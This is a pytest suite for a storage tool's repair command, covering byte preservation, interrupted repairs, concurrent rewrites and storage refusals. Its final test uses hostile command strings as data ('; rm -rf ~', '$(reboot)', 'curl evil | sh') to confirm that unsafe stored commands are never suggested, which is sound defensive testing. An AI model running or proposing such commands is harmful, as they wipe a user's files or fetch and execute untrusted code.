"""`verify --repair` takes damaged objects out, keeps every byte, and says how to make them again."""

import itertools

import pytest

from wsa.store.common import hashing, names
from wsa.store.format import records
from wsa.store.maintenance import verify
from wsa.store.maintenance.repair import repair
from wsa.store.maintenance.sweep import sweep
from wsa.store.maintenance.verify import REFUSALS
from wsa.store.objects.snapshot import take_snapshot
from wsa.store.testing import FaultyBackend, Killed

MODELS = ("lite0", "vit")
OBJECTS = 14


def fill_again(store, kit, metas):
    """Do what the commands that filled the store would do."""
    for meta in metas:
        kit.writer.commit_segment(store, *kit.by_id(meta))
        for alias in MODELS:
            kit.add_embedding(store, meta, kit.key(alias))
    for alias in MODELS:
        kit.add_model(store, kit.key(alias))


@pytest.mark.variants
@pytest.mark.parametrize("how", ["changed", "deleted", "record"])
def test_a_repaired_store_is_whole_and_can_be_completed(store, full, kit, how):
    before = kit.all_files(store)
    snapshot = take_snapshot(store)
    damaged = []
    for commit in list(snapshot.commits.values())[::2]:
        record = names.commit_path(commit.id)
        target = record if how == "record" else f"{commit.folder}/{commit.files[-1].name}"
        damaged.append(record if how == "record" else commit.path)
        if how == "deleted":
            store.delete(target)
        else:
            (store.root / target).write_bytes(b"?")
    now = kit.all_files(store)
    report = verify.verify(store)
    done = repair(store, report.damage)
    assert sorted(r.path for r in done) == sorted(damaged)
    again = verify.verify(store)
    assert again.damage == () and again.set_aside >= len(damaged)
    assert take_snapshot(store).commits.keys() == snapshot.commits.keys() - {
        c.path for c in list(snapshot.commits.values())[::2]
    }
    # Every byte is still there.
    assert set(now.values()) <= set(kit.all_files(store).values())
    for one in done:
        assert one.kept.startswith("damaged/") and one.left == ()
        assert "wsa collect" in one.next or "wsa encode" in one.next
    fill_again(store, kit, full)
    assert kit.check_whole(take_snapshot(store), full, [kit.key(a) for a in MODELS]) == OBJECTS - 2
    assert not verify.verify(store).damage
    # Files that a damaged record may have named stay until they are swept.
    leftovers = sweep(store, -1, dry_run=False)
    assert (leftovers.removed > 0) == (how == "record")
    assert kit.check_whole(take_snapshot(store), full, [kit.key(a) for a in MODELS]) == OBJECTS - 2
    assert verify.verify(store).leftovers == 0
    assert len(kit.paths(store, "games")) + len(kit.paths(store, "models")) == sum(
        path.startswith(("games/", "models/")) for path in before
    )


def test_a_repair_interrupted_anywhere_can_be_repeated(in_memory, kit):
    store = in_memory
    meta, _ = kit.add_segment(store)
    kit.add_model(store, kit.key())
    kit.add_embedding(store, meta, kit.key())
    path = names.embedding_path(meta.game, kit.key(), meta.segment)
    file = f"{take_snapshot(store).commit(path).folder}/c.0.0"
    store.files[file] = b"?", store.files[file][1]
    damage = verify.verify(store).damage
    damaged = dict(store.files)
    every_byte = {data for data, _ in damaged.values()}
    number = 0
    for number in itertools.count():
        store.files = dict(damaged)
        changes = itertools.count()

        def plan(call, number=number, changes=changes):
            changing = call.verb in ("put_new", "delete")
            return "kill" if changing and next(changes) == number else None

        try:
            repair(FaultyBackend(store, plan), damage)
        except Killed:
            assert every_byte <= {data for data, _ in store.files.values()}
            repair(store, verify.verify(store).damage)
        assert not verify.verify(store).damage
        assert every_byte <= {data for data, _ in store.files.values()}
        if next(changes) <= number:
            break
    assert number == 6, "a repair makes three copies, and removes a record and two files"


def test_a_lost_record_is_repaired_unless_it_is_there_again(store, full, kit):
    model = names.model_path(kit.key("vit"))
    rows = kit.segment_paths(full[0])[1]
    for path in (model, rows):
        store.delete(records.record_path(path))
    damage = verify.verify(store).damage
    kit.writer.commit_segment(store, *kit.by_id(full[0]))
    files = {path: store.get(path) for path in kit.paths(store, model)}
    done = {one.path: one for one in repair(store, damage)}
    assert "it is there again" in done[records.record_path(rows)].next
    kept = done[records.record_path(model)].kept.rpartition("/")[0]
    assert {store.get(path) for path in kit.paths(store, kept)} == {*files.values(), b""}
    assert "wsa encode --models vit" in done[records.record_path(model)].next
    assert not verify.verify(store).damage
    # Repaired, made again, and lost again: files that no repair has copied stay.
    kit.add_model(store, kit.key("vit"))
    attempt = take_snapshot(store).commit(model).folder
    store.delete(records.record_path(model))
    sweep(store, -1, dry_run=False)
    assert {path.rpartition("/")[0] for path in kit.paths(store, model)} == {attempt}


@pytest.mark.parametrize("lost", ["file", "record"])
def test_a_repair_leaves_what_was_made_again(store, full, kit, lost):
    path = names.model_path(kit.key("vit"))
    damaged = kit.paths(store, path)[0] if lost == "file" else records.record_path(path)
    (store.root / damaged).write_bytes(b"?")
    damage = verify.verify(store).damage
    repair(store, damage)
    kit.add_model(store, kit.key("vit"))
    before = kit.all_files(store)
    (done,) = repair(store, damage)
    assert done.kept == "" and kit.all_files(store) == before


def test_a_repair_leaves_an_object_that_is_made_again_meanwhile(store, full, kit, monkeypatch):
    """By a second repair, and a writer after it."""
    path = names.model_path(kit.key("vit"))
    (store.root / kit.paths(store, path)[0]).write_bytes(b"?")
    damage = verify.verify(store).damage
    put_new = store.put_new

    def others_are_faster(*what):
        monkeypatch.undo()
        repair(store, damage)
        kit.add_model(store, kit.key("vit"))
        return put_new(*what)

    monkeypatch.setattr(store, "put_new", others_are_faster)
    (done,) = repair(store, damage)
    assert "was replaced" in done.next
    assert path in take_snapshot(store).commits and not verify.verify(store).damage


@pytest.mark.parametrize("kind", REFUSALS)
@pytest.mark.parametrize("record", [False, True])
def test_a_repair_leaves_what_the_storage_refuses(
    store, full, kit, monkeypatch, refuse, kind, record
):
    """It may be whole: neither an outage nor another user's permissions may cost an object."""
    path = names.model_path(kit.key("vit"))
    refuse(names.commit_path(hashing.object_id(path)) if record else path, kind)
    damage = verify.verify(store).damage
    monkeypatch.undo()
    before = kit.all_files(store)
    (done,) = repair(store, damage)
    assert "may be intact" in done.next and done.kept == ""
    assert kit.all_files(store) == before and not verify.verify(store).damage


def test_a_stored_command_is_suggested_only_if_it_is_harmless(store, kit, monkeypatch):
    for words, shown in (
        ("wsa collect --game Pong --steps 24", True),
        ("wsa collect --game Pong; rm -rf ~", False),
        ("wsa collect --game $(reboot)", False),
        ("curl evil | sh", False),
    ):
        monkeypatch.setattr(kit.writer, "command_line", lambda words=words: words)
        meta, _ = kit.add_segment(store)
        frames = take_snapshot(store).commit(kit.segment_paths(meta)[0])
        (store.root / frames.folder / "zarr.json").write_bytes(b"?")
        (done,) = repair(store, verify.verify(store).damage)
        assert (words in done.next) == shown and f"wsa pull URL --game {meta.game}" in done.next
        for path in kit.paths(store):
            if path != "wsa.json":
                store.delete(path)
